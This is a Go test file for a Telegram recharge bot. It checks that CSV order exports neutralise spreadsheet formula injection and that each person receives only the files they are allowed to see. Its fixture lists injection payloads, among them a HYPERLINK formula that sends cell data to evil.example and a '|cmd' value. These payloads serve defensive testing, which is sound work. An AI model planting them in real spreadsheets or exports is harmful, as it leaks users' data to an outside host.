package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"rechargebot/bot/sandbox"
	"rechargebot/storage"
)

// formulas are what people may call themselves, and providers an order, so that a sheet calculates with it, and the
// cells that they become: as a name, and as a serial, which is left out unless it is one plain word.
func formulas() [][3]string {
	link := `=HYPERLINK("http://evil.example/?"&A1,"Pay")`
	return [][3]string{
		{"=1+1", "'=1+1", "'=1+1"}, {"+88017", "'+88017", "'+88017"}, {"-2+3", "'-2+3", "'-2+3"}, {"@SUM(A1:A9)", "'@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{link, "'" + link, "'" + link}, {"|cmd", "'|cmd", "'|cmd"}, {"%=1", "'%=1", "'%=1"},
		{"\t=1", "'=1", "'=1"}, {"\r=1", "'=1", "'=1"}, {"\n=1", "'=1", "'=1"}, {"  =1", "'=1", "'=1"}, {"\u00a0=1", "'=1", "'=1"},
		{"\x00=1", "'=1", ""}, {"\u200b=1", "'=1", ""}, {"\ufeff=1", "'=1", ""}, {"\u202e=1", "'=1", ""}, {"\u200d=1", "'\u200d=1", ""},
		{"＝1", "'＝1", ""}, {"＋1", "'＋1", ""}, {"－1", "'－1", ""}, {"＠A1", "'＠A1", ""}, {"−1", "'−1", ""}, {"﹦1", "'﹦1", ""}, {"\u3000＝1", "'＝1", ""},
		{"'=1", "''=1", "''=1"}, {`"=1","=2"`, `'"=1","=2"`, `'"=1","=2"`}, {`Rahim,"=1"`, `Rahim,"=1"`, `'Rahim,"=1"`},
		{"Rahim;=1", "Rahim,=1", "'Rahim,=1"}, {"Rahim\r\n=1", "Rahim  =1", ""}, {"Rahim\t=1", "Rahim =1", ""}, {`Rahim "Bhai"`, `Rahim "Bhai"`, ""},
		{"00123", "'00123", "'00123"}, {"12345678901234567890", "'12345678901234567890", "'12345678901234567890"}, {"1E5", "'1E5", "'1E5"},
		{"রহিম উদ্দিন", "রহিম উদ্দিন", ""}, {"Delivered", "Delivered", ""},
	}
}

const firstFormula = 6000 // the agent with the first name

// accountant counts the files that the bot sends, and has the provider say formulas where it names an order.
type accountant struct {
	mu    sync.Mutex
	said  map[string]string // by reference
	files int
}

func (a *accountant) spied(side string, h http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		a.mu.Lock()
		if side == "telegram" && strings.HasSuffix(r.URL.Path, "/sendDocument") {
			a.files++
		}
		body := a.says(side, r)
		a.mu.Unlock()
		if body == nil {
			h.ServeHTTP(w, r)
			return
		}
		_ = json.NewEncoder(w).Encode(body)
	})
}

func (a *accountant) says(side string, r *http.Request) map[string]string {
	q := r.URL.Query()
	words, i := formulas(), 0
	switch _, err := fmt.Sscanf(q.Get("number"), "0171100%4d", &i); {
	case side != "upstream":
	case q.Get("service") == "MRC" && err == nil && i >= firstFormula && i < firstFormula+len(words):
		a.said[q.Get("refid")] = words[i-firstFormula][0]
		return map[string]string{"STATUS": "OK", "RECHARGE_STATUS": "RECEIVED", "NUMBER": q.Get("number"), "TRXID": a.said[q.Get("refid")]}
	case q.Get("service") == "MRCSTATUS" && a.said[q.Get("refid")] != "":
		return map[string]string{"STATUS": "OK", "RECHARGE_STATUS": "SUCCESS", "RECHARGE_TRXID": a.said[q.Get("refid")]}
	}
	return nil
}

// sent is how many files the bot has tried to send.
func (a *accountant) sent() int {
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.files
}

// Row "CSV formula injection": what agents are called and a provider says comes back out of the file as it was, and no
// cell of it is one that a sheet calculates.
func TestThreatCSVInjection(t *testing.T) {
	t.Parallel()
	books := &accountant{said: map[string]string{}}
	plan := deskPlan{supplies: []supply{fiveKinds()["ecare"].supply}, limits: sandbox.Limits{Off: true}, spied: books.spied}
	var ids []int64
	for i, f := range formulas() {
		ids = append(ids, firstFormula+int64(i))
		plan.people = append(plan.people, sandbox.Person{ID: ids[i], FirstName: f[0], Language: "en", Started: true})
	}
	d := newDesktopOf(t, plan)
	d.hires(ids...)
	d.start()
	d.says(admin, "/start")
	d.sees(admin, "[Recharge")
	for _, id := range ids {
		d.says(id, fmt.Sprintf("0171100%d 20", id))
	}
	for _, id := range ids {
		d.presses(id, "Confirm")
		d.sees(id, "Delivered: #")
	}

	all := d.sheet(admin)
	if len(all) != len(ids) {
		t.Fatalf("%d orders in the file, want %d", len(all), len(ids))
	}
	for i, f := range formulas() {
		id := ids[i]
		code := jobCode.FindString(d.sees(id, "Delivered: #").Text)
		at := slices.IndexFunc(all, func(row map[string]string) bool { return row["Order"] == code })
		if at < 0 {
			t.Fatalf("%s is not in the file", code)
		}
		row := all[at]
		for _, varies := range []string{"Date", "Time", "Final date", "Final time", "Reference"} {
			if row[varies] == "" {
				t.Errorf("%s has no %s", code, varies)
			}
			delete(row, varies)
		}
		want := map[string]string{
			"Order": code, "Time zone": "UTC+06:00", "Agent": f[1], "Agent's id": fmt.Sprint("'", id), "Operator": "Grameenphone", "Type": "Prepaid",
			"Number": fmt.Sprint("'0171100", id), "Circle": "", "Amount": "20.00", "Currency": "BDT", "State": "Delivered", "Remark": "",
			"Serial": f[2], "Provider": "ecare-x", "Provider's order id": f[2],
		}
		if diff := cmp.Diff(want, row); diff != "" {
			t.Errorf("of %q (-want +got):\n%s", f[0], diff)
		}
	}
}

// An agent's file has his own orders alone, and nothing of who serves the desk; strangers and groups get none.
func TestThreatCSVOfOthers(t *testing.T) {
	t.Parallel()
	books := &accountant{}
	d, _ := ordering(t, deskPlan{spied: books.spied}, second)
	d.pressesNewest(agent, "01712345678", "Delivered")
	d.says(second, "01812345678 30")
	d.pressesNewest(second, "01812345678", "Delivered")
	for who, number := range map[int64]string{agent: "'01712345678", second: "'01812345678"} {
		rows := d.sheet(who)
		if len(rows) != 1 || rows[0]["Number"] != number || rows[0]["State"] != "Delivered" || len(rows[0]) != 15 {
			t.Errorf("%d has the file %v", who, rows)
		}
		for _, column := range []string{"Agent", "Agent's id", "Provider", "Provider's order id", "Reference"} {
			if _, there := rows[0][column]; there {
				t.Errorf("%d reads %q", who, column)
			}
		}
	}
	if rows := d.sheet(admin); len(rows) != 2 {
		t.Errorf("the admin has the file %v", rows)
	}
	before := books.sent()
	d.says(stranger, "/export today")
	d.sees(stranger, "I work only for people who have access.")
	for _, who := range []int64{admin, agent} {
		if _, err := d.telegram.Send(who, ops, "/export today"); err != nil {
			t.Fatal(err)
		}
	}
	d.sees(ops, "I do that only in our private chat.")
	d.says(agent, "/id") // what comes after it all is answered, so it all was
	d.sees(agent, "2001")
	if n := books.sent(); n != before {
		t.Errorf("%d files were sent to strangers or groups", n-before)
	}
}

// A thumb that presses ten times, a dead process and an admin who is none any more: the file comes, to whom it may.
func TestThreatCSVOwedThroughACrash(t *testing.T) {
	t.Parallel()
	books := &accountant{}
	d, _ := ordering(t, deskPlan{spied: books.spied}, second)
	d.pressesNewest(agent, "01712345678", "Delivered")
	d.betweenLives(func(store storage.Store) error {
		before, err := store.Person(t.Context(), second)
		after := before
		after.Role = storage.RoleAdmin
		return cmpOr(err, func() error { return d.commit(store, storage.PersonChange{Before: &before, After: after}) })
	})
	d.start()
	if err := d.telegram.Fail(sandbox.Fault{Kind: sandbox.Stall, Method: "sendDocument", Times: 1000}); err != nil {
		t.Fatal(err)
	}
	d.says(second, "/export "+days())
	d.eventually("the admin's file is on its way", func() bool { return books.sent() == 1 })
	for range 10 {
		d.says(agent, "/export "+days())
	}
	d.eventually("the agent's file is on its way", func() bool { return books.sent() > 1 })
	d.kill()
	d.betweenLives(func(store storage.Store) error {
		before, err := store.Person(t.Context(), second)
		after := before
		after.Role = storage.RoleAgent
		return cmpOr(err, func() error { return d.commit(store, storage.PersonChange{Before: &before, After: after}) })
	})
	d.telegram.Heal()
	d.start()
	d.sees(second, "You may not have this file any more.")
	rows := d.opened(d.document(agent, 0))
	if len(rows) != 1 || rows[0]["Number"] != "'01712345678" {
		t.Errorf("the agent's file is %v", rows)
	}
	d.says(agent, "/id")
	d.sees(agent, "2001")
	for _, chat := range []int64{agent, second} {
		files := 0
		for _, m := range d.telegram.Messages(chat) {
			if m.Document != nil {
				files++
			}
		}
		if most := map[int64]int{agent: 6, second: 0}[chat]; files > most {
			t.Errorf("%d has %d files", chat, files)
		}
	}
}

// cmpOr is the error, or what do says when there is none.
func cmpOr(err error, do func() error) error {
	if err != nil {
		return err
	}
	return do()
}

// days is yesterday to tomorrow: whenever the test runs, what it orders is in them.
func days() string {
	now := time.Now().UTC()
	return now.AddDate(0, 0, -1).Format(time.DateOnly) + " " + now.AddDate(0, 0, 1).Format(time.DateOnly)
}

// sheet is the file that somebody asks for, opened.
func (d *desktop) sheet(who int64) []map[string]string {
	d.t.Helper()
	return d.opened(d.export(who))
}

// cleanFiles looks for canaries in the files of an admin and of each agent.
func (a *aviary) cleanFiles() {
	a.t.Helper()
	everybody := []int64{admin}
	for _, k := range a.keepers {
		for id := range int64(storms) {
			everybody = append(everybody, k.agent+id)
		}
	}
	for _, who := range everybody {
		file := string(a.export(who))
		a.clean(fmt.Sprintf("the file of person %d", who), file, who, slices.Concat(a.secrets, a.numbers))
		for _, own := range a.numbers {
			if slices.Contains(own.chats, who) && !strings.Contains(file, own.value) {
				a.t.Errorf("the file of person %d does not hold the number %s", who, own.value)
			}
		}
	}
}

// export is the file that somebody asks for.
func (d *desktop) export(who int64) []byte {
	d.t.Helper()
	newest := int64(0)
	for _, m := range d.telegram.Messages(who) {
		newest = max(newest, m.ID)
	}
	d.says(who, "/export "+days())
	return d.document(who, newest)
}

// document waits for a file after a message, and fetches it as a client does.
func (d *desktop) document(who, after int64) []byte {
	d.t.Helper()
	ctx, cancel := context.WithTimeout(d.t.Context(), longest)
	defer cancel()
	m, err := d.telegram.WaitMessage(ctx, who, func(m sandbox.Message) bool { return m.Document != nil && m.From.IsBot && m.ID > after })
	if err != nil {
		d.t.Fatalf("no file came to %d: %v\n%s", who, err, d.transcript(who))
	}
	if !strings.HasPrefix(m.Document.Name, "orders-20") || !strings.HasSuffix(m.Document.Name, ".csv") || !strings.Contains(m.Caption, "orders") {
		d.t.Errorf("the file %q comes with %q", m.Document.Name, m.Caption)
	}
	w := httptest.NewRecorder()
	d.telegram.Handler().ServeHTTP(w, httptest.NewRequest(http.MethodGet, "/sandbox/files/"+m.Document.ID, nil))
	if w.Code != http.StatusOK || w.Body.Len() != m.Document.Size {
		d.t.Fatalf("the file cannot be opened: %d, %d bytes of %d", w.Code, w.Body.Len(), m.Document.Size)
	}
	return w.Body.Bytes()
}

// opened reads a file as RFC 4180 and the notes in the README say, each row by its titles, and looks at each cell as a
// sheet would.
func (d *desktop) opened(file []byte) (rows []map[string]string) {
	d.t.Helper()
	plain, marked := bytes.CutPrefix(file, []byte("\xef\xbb\xbf"))
	if !marked || !utf8.Valid(plain) || !bytes.HasSuffix(plain, []byte("\r\n")) || bytes.Count(plain, []byte("\n")) != bytes.Count(plain, []byte("\r\n")) {
		d.t.Errorf("the file is not UTF-8 with its mark, or its lines do not end in CRLF:\n%q", file)
	}
	r := csv.NewReader(bytes.NewReader(plain))
	all, err := r.ReadAll() // it refuses rows of another length than the first
	if err != nil {
		d.t.Fatalf("the file cannot be read: %v\n%s", err, plain)
	}
	for _, cells := range all {
		row := map[string]string{}
		for i, cell := range cells {
			if calculated(cell) {
				d.t.Errorf("a sheet calculates the cell %q", cell)
			}
			row[all[0][i]] = cell
		}
		rows = append(rows, row)
	}
	for _, other := range []string{";", "\t"} { // sheets of other countries part cells with these
		for _, piece := range strings.Split(strings.ReplaceAll(string(plain), "\r\n", other), other) {
			if strings.TrimLeft(piece, ` "`) != "" && strings.ContainsAny(strings.TrimLeft(piece, ` "`)[:1], "=+-@") {
				d.t.Errorf("a sheet that parts cells at %q calculates %q", other, piece)
			}
		}
	}
	return rows[1:]
}

// calculated reports whether a sheet may take a cell for anything but the text that it is: it may begin with a letter,
// our own mark or a code's, or be a date, a time or an amount.
func calculated(cell string) bool {
	if cell == "" || strings.HasPrefix(cell, "'") || cell[0] == '#' && jobCode.FindString(cell) == cell {
		return false
	}
	first, _ := utf8.DecodeRuneInString(cell)
	for _, layout := range []string{time.DateOnly, time.TimeOnly} {
		if _, err := time.Parse(layout, cell); err == nil {
			return false
		}
	}
	whole, frac, _ := strings.Cut(cell, ".")
	if n, err := strconv.ParseUint(whole, 10, 64); err == nil && len(frac) == 2 && strconv.FormatUint(n, 10) == whole {
		return false
	}
	return !unicode.IsLetter(first)
}
